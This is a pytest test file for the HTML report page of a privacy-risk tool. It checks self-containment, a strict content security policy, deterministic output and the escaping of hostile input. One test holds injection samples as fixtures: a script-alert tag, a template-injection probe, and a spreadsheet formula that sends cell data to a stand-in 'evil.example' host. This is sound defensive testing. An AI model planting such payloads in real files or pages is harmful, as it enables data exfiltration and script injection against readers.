"""The page: complete, self-contained, the same every time, small; data is never markup."""

from __future__ import annotations

import base64
import copy
import hashlib
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from importlib.metadata import version
from pathlib import Path
from typing import Any

import pytest

from indiff.errors import InternalError
from indiff.report.page.figures import Figure, figures
from indiff.report.page.html import chart_bundle, render
from tests.report.documents import bare, column, hostile, usual, worst_row

MOST_BYTES = 2_000_000
VOID = {"meta", "img", "br", "hr", "link", "input", "wbr"}


class Parsed(HTMLParser):
    """What a page holds: elements with attributes, ids, texts, and whether every end matches."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.open: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.text += "" if tag == "wbr" else " "
        if tag == "script":
            self.scripts.append((dict(attrs), ""))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] == "script":
            attributes, text = self.scripts[-1]
            self.scripts[-1] = (attributes, text + data)
        elif not self.open or self.open[-1] != "style":
            self.text += data


@pytest.fixture(scope="module")
def page() -> str:
    return render(usual())


@pytest.fixture(scope="module")
def hostile_page() -> str:
    return render(hostile())


def squeezed(text: str) -> str:
    return re.sub(r"\s+", " ", text)


def test_verdict_comes_first_and_in_words(page: str) -> None:
    text = squeezed(Parsed(page).text)
    assert text.index("Failed") < text.index("Singling out") < text.index("Linkability")
    assert "2 of 6 limits exceeded, 1 not decided" in text
    assert "Delta by naive-bayes is 1.934, and must be at most 0.1." in text


@pytest.mark.parametrize(
    ("status", "word"),
    [
        ("pass", "Passed"),
        ("fail", "Failed"),
        ("incomplete", "Incomplete"),
        ("no-limits", "No verdict"),
    ],
)
def test_every_verdict_has_its_word(status: str, word: str) -> None:
    made = bare()
    made["verdict"]["status"] = status
    assert f"<title>{word}: " in render(made)


def test_everything_of_the_document_is_said(page: str) -> None:
    made = usual()
    text = squeezed(Parsed(page).text)
    for one in made["findings"]:
        parts = ("title", "means", "does_not_prove", "source", "id")
        for part in parts if one["status"] == "measured" else ("title", "reason"):
            assert squeezed(one[part]) in text, (one["id"], part)
    for row in made["charts"]["worst"]:
        assert f"Record {row['record']}" in text
        assert row["why"] in text
    for one in made["table"]["columns"]:
        assert one["name"] in text
    for said in (
        made["table"]["fingerprint"],
        made["command"],
        "numpy 2.1.0",
        "2026-01-01 12:00:00 UTC",
        "3.2 s",
        "data.quasi age, sex, zip",
        "limits.delta 0.1",
        "run.jobs not set",
        "the plan does not ask for membership inference",
        "0.0018 to 0.0031",
        "only those of at least 10 records",
    ):
        assert said in text, said
    order = [
        "Singling out",
        "Linkability",
        "Private: what one",
        "Public: what the crowd",
        "Most exposed records",
        "Utility",
        "What was released",
        "how to read this report",
        "Every finding in full",
        "The table",
        "Method, and how to repeat it",
        "References",
        "Glossary",
    ]
    body = text[text.index("Singling out Can somebody") :]
    places = [body.index(words) for words in order]
    assert places == sorted(places)


def test_page_is_self_contained(page: str) -> None:
    parsed = Parsed(page)
    asking = {"src", "action", "formaction", "poster", "srcset", "data", "background"}
    for tag, attributes in parsed.elements:
        assert not asking & set(attributes), tag
        assert tag not in ("link", "iframe", "object", "embed", "base", "form", "img")
        if tag == "a":
            assert str(attributes["href"]).startswith("#")
    styles = page[page.index("<style>") : page.index("</style>")]
    assert "url(" not in styles
    assert "@import" not in styles
    assert len(page.encode()) < MOST_BYTES


def test_policy_allows_just_the_scripts_of_the_page(page: str) -> None:
    parsed = Parsed(page)
    (policy,) = [
        str(attributes["content"])
        for tag, attributes in parsed.elements
        if tag == "meta" and attributes.get("http-equiv") == "Content-Security-Policy"
    ]
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    assert rules["default-src"] == "'none'"
    assert "unsafe" not in policy
    running = [text for attributes, text in parsed.scripts if "type" not in attributes]
    hashes = [
        "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"
        for text in running
    ]
    assert rules["script-src"].split() == hashes
    assert len(running) == 2
    assert page.index("Content-Security-Policy") < page.index("<style>")


def test_links_and_labels_lead_somewhere(page: str) -> None:
    parsed = Parsed(page)
    ids = [str(attributes["id"]) for _, attributes in parsed.elements if "id" in attributes]
    assert len(ids) == len(set(ids))
    for _, attributes in parsed.elements:
        for name in ("aria-labelledby", "data-chart"):
            if name in attributes:
                assert attributes[name] in ids
        if "href" in attributes:
            assert str(attributes["href"])[1:] in ids


def test_equal_documents_give_equal_bytes(page: str, hostile_page: str) -> None:
    assert render(json.loads(json.dumps(usual()))) == page != hostile_page


def test_only_the_named_places_change_with_the_time(page: str) -> None:
    later = copy.deepcopy(usual())
    later["timing"] = {"started": "2027-05-05T00:00:00+00:00", "seconds": 99.0, "steps": {}}
    lines = zip(page.splitlines(), render(later).splitlines(), strict=True)
    changed = [one for one, other in lines if one != other]
    assert 0 < len(changed) <= 6  # the day stands in the margins, and their sum in the policy


def test_each_chart_has_title_sentence_table_and_data(page: str) -> None:
    parsed = Parsed(page)
    found = figures(usual())
    assert [one.id for one in found] == ["risk", "columns", "cdf", "parameter", "worst"]
    specs = {
        str(attributes["id"]): json.loads(text)
        for attributes, text in parsed.scripts
        if attributes.get("type") == "application/json"
    }
    text = squeezed(parsed.text)
    for one in found:
        assert specs[f"data-{one.id}"] == one.spec
        assert squeezed(one.title) in text
        assert squeezed(one.summary) in text
        assert one.summary.endswith(".")
        assert one.rows
        assert all(len(row) == len(one.headers) for row in one.rows)
        for row in one.rows:
            assert squeezed(" ".join(row[:1])) in text


def test_hostile_text_stays_text(page: str, hostile_page: str) -> None:
    parsed = Parsed(hostile_page)
    usual_tags = {tag for tag, _ in Parsed(page).elements}
    assert {tag for tag, _ in parsed.elements} <= usual_tags
    assert not parsed.open
    for tag, attributes in parsed.elements:
        assert not [name for name in attributes if name.startswith("on")], tag
    assert len([None for attributes, _ in parsed.scripts if "type" not in attributes]) == 2
    assert "<script>alert(1)</script>" in parsed.text
    assert '=HYPERLINK("https://evil.example/?"&A1)' in parsed.text
    assert "{{ 7*7 }}" in parsed.text
    assert "👨" in parsed.text
    assert len(hostile_page.encode()) < MOST_BYTES


def test_control_characters_are_shown_not_sent(page: str, hostile_page: str) -> None:
    steering = re.findall(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]", hostile_page
    )
    own = re.findall(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]",
        page,
    )
    assert len(steering) == len(own)
    assert "\\x00" in hostile_page
    assert "\\u202e" in hostile_page
    hostile_page.encode("utf-8")  # no lone surrogate is left


def test_long_names_are_cut(hostile_page: str) -> None:
    assert "x" * 2000 not in hostile_page
    assert "x" * 20 + "…" in hostile_page


def strings(part: Any, key: str = "") -> list[tuple[str, str]]:
    """Every text of a specification beside its data, with the key that holds it."""
    if isinstance(part, dict):
        return [
            found
            for name, inner in part.items()
            if name not in ("datasets", "data", "config")
            for found in [(name, name), *strings(inner, name)]
        ]
    if isinstance(part, list):
        return [found for inner in part for found in strings(inner, key)]
    return [(key, part)] if isinstance(part, str) else []


def test_charts_hold_user_text_as_data_only() -> None:
    harmless = {one.id: set(strings(one.spec)) for one in figures(usual())}
    for one in figures(hostile()):
        new = set(strings(one.spec)) - harmless[one.id]
        # A list of labels, and the title of the axis that a parameter has: literals for Vega.
        assert {key for key, _ in new} <= {"domain", "title", "range"}
        # What Vega computes is ours: how wide a legend's words may be, and nothing else.
        computed = {"expr", "signal", "calculate", "filter", "href", "url"}
        assert {(key, text) for key, text in strings(one.spec) if key in computed} <= {
            ("expr", "expr"), ("expr", "max(90, width - 12)")
        }  # fmt: skip


def test_bare_document_has_no_chart_and_no_bundle() -> None:
    page = render(bare())
    assert figures(bare()) == []
    assert len(page) < 60_000
    assert "memory ran out" in page
    assert "Nothing was measured for this question." in page


def test_wide_tables_are_cut_and_say_so() -> None:
    made = usual()
    made["table"]["columns"] = [
        column(f"{'<&' * 30}{place}", "quasi", "categorical", 2) for place in range(20_000)
    ]
    made["charts"]["columns"] = [
        {"column": f"{'<&' * 30}{place}", "metric": "DR", "before": place / 20_000, "after": 0.0}
        for place in range(20_000)
    ]
    page = render(made)
    assert len(page.encode()) < MOST_BYTES
    text = squeezed(Parsed(page).text)
    assert "The first 500 of 20,000 columns; the JSON file has all." in text
    assert "19,800 more lines are in the JSON file." in text


def test_values_are_watermarked_when_shown(page: str) -> None:
    assert 'class="watermark"' not in page
    made = usual()
    made["show_values"] = True
    page = render(made)
    assert 'class="watermark"' in page
    assert "This report names values of the table." in page


def figure(part: str, value: Any) -> Figure:
    made = bare()
    made["charts"][part] = value
    (found,) = figures(made)
    return found


def test_zeros_and_infinities_of_the_cdf_are_said() -> None:
    found = figure("cdf", [{"name": "tree", "x": [0.0, 0.5, "Infinity"], "y": [0.25, 0.75, 1.0]}])
    assert "25% of the records have a distance of exactly 0" in found.summary
    assert "25% are infinite and not drawn" in found.summary
    assert found.rows[0][:2] == ("tree", "25%")
    assert found.rows[0][-1] == "∞"


def test_all_distances_zero_is_still_a_chart() -> None:
    found = figure("cdf", [{"name": "tree", "x": [0.0], "y": [1.0]}])
    assert "100% of the records have a distance of exactly 0" in found.summary
    points = [row for rows in found.spec["datasets"].values() for row in rows]
    assert {row["share"] for row in points} == {1.0}


def test_settings_that_failed_are_in_the_table_only() -> None:
    points = [
        {"setting": "mondrian:k=2", "value": 2, "delta": "Infinity", "mean": "Infinity"},
        {"setting": "mondrian:k=5", "value": 5, "delta": 0.5, "mean": 0.1},
        {"setting": "mondrian:k=9", "value": 9, "delta": None, "mean": None},
    ]
    found = figure("parameter", {"parameter": "k", "points": points})
    assert "Infinite numbers are not drawn." in found.summary
    assert [row[1] for row in found.rows] == ["∞", "0.5", "—"]


def test_measurements_that_are_missing_on_one_side() -> None:
    rows = [{"metric": "DR", "about": "diagnosis", "before": 0.5, "after": None, "range": [0, 1]}]
    found = figure("risk", rows)
    assert found.rows[0][2:4] == ("0.5", "—")
    nothing = bare()
    nothing["charts"]["risk"] = [{**rows[0], "before": None}]
    assert figures(nothing) == []


def test_a_value_never_reads_like_the_limit_it_exceeds() -> None:
    made = usual()
    delta = next(one for one in made["findings"] if one["exceeded"])
    delta["value"] = 0.1000001
    assert ">0.1000001<" in render(made)


def test_worst_of_several_attributes_are_ranked_together() -> None:
    rows = [
        worst_row(1, 0.2, 0.5, 0.4) | {"about": "diagnosis"},
        worst_row(1, 0.9, 0.8, 0.1) | {"about": "income"},
        worst_row(2, "Infinity", 1.0, 0.0) | {"about": "income"},
    ]
    found = figure("worst", rows)
    assert [row[:3] for row in found.rows] == [
        ("2", "income", "∞"),
        ("1", "income", "0.9"),
        ("1", "diagnosis", "0.2"),
    ]
    lines = [row["line"] for row in next(iter(found.spec["datasets"].values()))]
    assert lines[0] == "record 2 · income"
    assert found.summary.startswith("Record 2 is exposed most")


def test_of_records_with_the_same_distance_only_the_named_one_has_its_beliefs_told() -> None:
    rows = [worst_row(4, 2, 0.6, 0) | {"about": "ill"}, worst_row(7, 2, 0.1, 0) | {"about": "ill"}]
    assert figure("worst", rows).summary.startswith(
        "2 of these records have the same largest distance, such as record 4: with that record in "
        "the table the belief in its true value is 60%, without it 0%"
    )


def test_what_a_limit_cannot_decide_is_not_called_kept() -> None:
    made = copy.deepcopy(usual())
    made["policy"] = None
    for one in made["findings"]:
        if one["limit"] is not None:
            one["exceeded"] = None
            one["exactness"] = "lower-bound"
    made["verdict"] = {"status": "incomplete", "exit_code": 3, "reasons": ["a lower bound"]}
    text = squeezed(Parsed(render(made)).text)
    assert "Incomplete 3 of 3 limits not decided" in text
    assert "limit kept" not in text
    assert "kept" not in text.partition("Singling out")[0]


def test_a_release_made_elsewhere_was_not_sanitized_here() -> None:
    made = copy.deepcopy(usual())
    assert ", released as groups of similar people (mondrian:k=5)" in squeezed(
        Parsed(render(made)).text
    )
    made["plan"]["release"] = {"file": "release.csv"}
    assert ", released elsewhere as mondrian:k=5" in squeezed(Parsed(render(made)).text)


def test_without_a_release_only_the_original_has_a_risk() -> None:
    made = copy.deepcopy(usual())
    for row in made["charts"]["risk"]:
        row["after"] = None
    text = squeezed(Parsed(render(made)).text)
    assert "Only the original could be measured." in text
    assert "Of what is drawn here, sanitizing lowers" not in text


@pytest.fixture
def nothing_loaded() -> Iterator[None]:
    chart_bundle.cache_clear()
    yield
    chart_bundle.cache_clear()


@pytest.mark.usefixtures("nothing_loaded")
def test_bundle_is_kept_for_the_next_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    vl_convert = pytest.importorskip("vl_convert")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    made: list[int] = []

    def make() -> str:
        made.append(1)
        return "window.made = 'ünï';"

    monkeypatch.setattr(vl_convert, "javascript_bundle", make)
    first = chart_bundle()
    chart_bundle.cache_clear()
    assert chart_bundle() == first == "window.made = 'ünï';"
    assert len(made) == 1
    (kept,) = (tmp_path / "indiff").iterdir()
    assert kept.name == f"charts-{version('vl-convert-python')}.js"
    assert kept.stat().st_mode & 0o077 == 0


@pytest.mark.usefixtures("nothing_loaded")
def test_bundle_without_a_place_to_keep_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    vl_convert = pytest.importorskip("vl_convert")
    (tmp_path / "indiff").write_text("a file where the folder should be")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.setattr(vl_convert, "javascript_bundle", lambda: "1;")
    assert chart_bundle() == "1;"


@pytest.mark.usefixtures("nothing_loaded")
def test_bundle_that_would_end_its_element_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    vl_convert = pytest.importorskip("vl_convert")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.setattr(vl_convert, "javascript_bundle", lambda: "'</SCRIPT>'")
    with pytest.raises(InternalError, match="would end the element"):
        chart_bundle()
